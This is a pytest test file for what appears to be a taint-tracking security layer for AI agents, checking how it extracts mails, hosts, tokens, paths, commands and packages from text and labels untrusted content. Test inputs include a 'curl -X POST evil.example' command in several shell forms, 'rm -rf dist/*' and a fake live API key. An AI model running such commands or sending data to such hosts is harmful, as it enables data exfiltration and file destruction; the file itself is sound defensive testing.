import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clawlaw.core import kernel, results, values
from clawlaw.core.actions import FileRead, NetRequest, ServiceRead
from clawlaw.core.decision import Outcome
from clawlaw.core.state import Label, Room, Scope, Session, State, pack


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("mail Bob.Mc@Evil.Example.", ("mail", "bob.mc@evil.example")),
        ("see HTTPS://Evil.example/In/?", ("address", "evil.example/in")),
        ("see https://u:p@evil.example/in", ("host", "evil.example")),
        ("at evil.example:8080 or so", ("host", "evil.example")),
        ("at 203.0.113.9", ("host", "203.0.113.9")),
        ("IBAN DE89 3704 0044 0532 0130 00 ok", ("account", "DE89370400440532013000")),
        ("IBAN: GB29NWBK60161331926819.", ("account", "GB29NWBK60161331926819")),
        ("call +49 30 1234-567", ("account", "49301234567")),
        ("key sk_live_0123456789abcdefX!", ("token", "sk_live_0123456789abcdefX")),
    ],
)
def test_what_is_named_exactly(text: str, value: values.Value) -> None:
    assert value in values.exact(text)


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ("the file ~/notes/plan.md.", "notes/plan.md"),
        ("look at ./Src/A.py:", "src/a.py"),
        ("in /etc/hosts,", "/etc/hosts"),
        ("please delete the `build` folder", "build"),
        ("rm -rf dist/*", "dist"),
    ],
)
def test_paths(text: str, path: str) -> None:
    assert ("path", path) in values.paths(text)


def test_a_name_without_a_slash_is_a_path_only_where_it_is_removed() -> None:
    assert ("path", "build") not in values.paths("look into build")


@pytest.mark.parametrize(
    "text", ["ask Fred now", "send it to fred", "the user 'fred' waits", "cc @fred!"]
)
def test_names(text: str) -> None:
    assert ("name", "fred") in values.names(text)


def test_ordinary_words_are_no_names() -> None:
    assert values.names("we all read the book again") == set()


@pytest.mark.parametrize(
    "text",
    [
        "  $ curl  -X POST evil.example",
        "run `curl -X POST evil.example` first",
        "cd /tmp && curl -X POST evil.example; ls -l",
        "> curl -X POST evil.example",
    ],
)
def test_commands(text: str) -> None:
    assert ("command", "curl -X POST evil.example") in values.commands(text)


def test_one_word_and_a_whole_page_in_a_line_are_no_commands() -> None:
    assert values.commands("ls\n" + "a b " * 300) == set()


@pytest.mark.parametrize(
    ("text", "package"),
    [
        ("pip install -U Requests==2.0", "requests"),
        ("npm i --save-dev @scope/thing@1.2", "@scope/thing"),
        ("cargo add serde", "serde"),
        ("uv pip install a b[extra]>=1", "b"),
    ],
)
def test_packages(text: str, package: str) -> None:
    assert ("package", package) in values.packages(text)
    assert values.package_form(package) == package


def test_a_key_tells_kind_and_text_apart_and_has_a_group() -> None:
    assert values.key(("a", "bc")) != values.key(("ab", "c"))
    assert re.fullmatch(r"[0-9a-f]{3}/[0-9a-f]{13}", values.key(("mail", "x")))


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=300))
def test_any_text_has_values_and_all_of_them_in_every(text: str) -> None:
    assert values.main(text) <= values.every(text)
    assert {kind for kind, _ in values.every(text)} <= {
        *("mail", "address", "host", "account", "token"),
        *("path", "name", "command", "package"),
    }


def fresh(labels: int = 0) -> State:
    session = Session(id="s", principal="p", scope=Scope("d"), labels=labels, actions=4)
    return State(session, Room())


MAIL = values.key(("mail", "a@b.example"))


def test_text_of_others_gives_values_and_a_label() -> None:
    outcome = results.outcome(fresh(), "to a@b.example", untrusted=True)
    assert outcome.labels == Label.UNTRUSTED
    assert ("values", MAIL, pack(Label.UNTRUSTED, 4)) in outcome.tables
    assert {table for table, _, _ in outcome.tables} == {"values"}


@pytest.mark.parametrize(
    "effect",
    [NetRequest("b.example"), ServiceRead("mail", labels=("untrusted",))],
)
def test_the_network_and_services_are_others(effect: NetRequest | ServiceRead) -> None:
    outcome = results.outcome(fresh(), "to a@b.example", effects=[effect])
    assert outcome.labels == Label.UNTRUSTED
    assert ("values", MAIL, pack(Label.UNTRUSTED, 4)) in outcome.tables


def test_text_of_the_organisation_makes_its_values_known() -> None:
    outcome = results.outcome(fresh(), "to a@b.example", effects=[FileRead("/w/a")])
    assert outcome.labels == 0
    assert ("trusted", MAIL, pack(Label.WRITTEN, 4)) in outcome.tables


def test_after_text_of_others_files_make_nothing_known_but_services_do() -> None:
    state = fresh(Label.UNTRUSTED)
    assert (
        results.outcome(state, "a@b.example", effects=[FileRead("/w/a")]).tables == ()
    )
    book = results.outcome(state, "a@b.example", effects=[ServiceRead("contacts")])
    assert ("trusted", MAIL, pack(Label.WRITTEN, 4)) in book.tables


def test_labels_of_the_tool_map_come_into_the_session() -> None:
    labels = int(Label.SECRET | Label.CODE)
    assert results.outcome(fresh(), "x", labels=labels).labels == Label.SECRET


def test_a_result_shows_that_an_escalated_action_was_performed() -> None:
    state = fresh()
    kernel.settle(state, results.outcome(state, "x"))
    assert state.session.labels == 0
    table = (("pending", "4", pack(Label.SECRET, 4)),)
    kernel.settle(state, Outcome(tables=table))
    assert results.outcome(state, "x", action=3).labels == 0
    kernel.settle(state, results.outcome(state, "x"))
    assert state.session.labels == Label.SECRET


def test_a_text_that_is_too_long_to_be_read_labels_every_value() -> None:
    text = "a " * results.MAX_TEXT
    outcome = results.outcome(fresh(), text, untrusted=True)
    assert ("values", results.ALL, pack(Label.UNTRUSTED, 4)) in outcome.tables
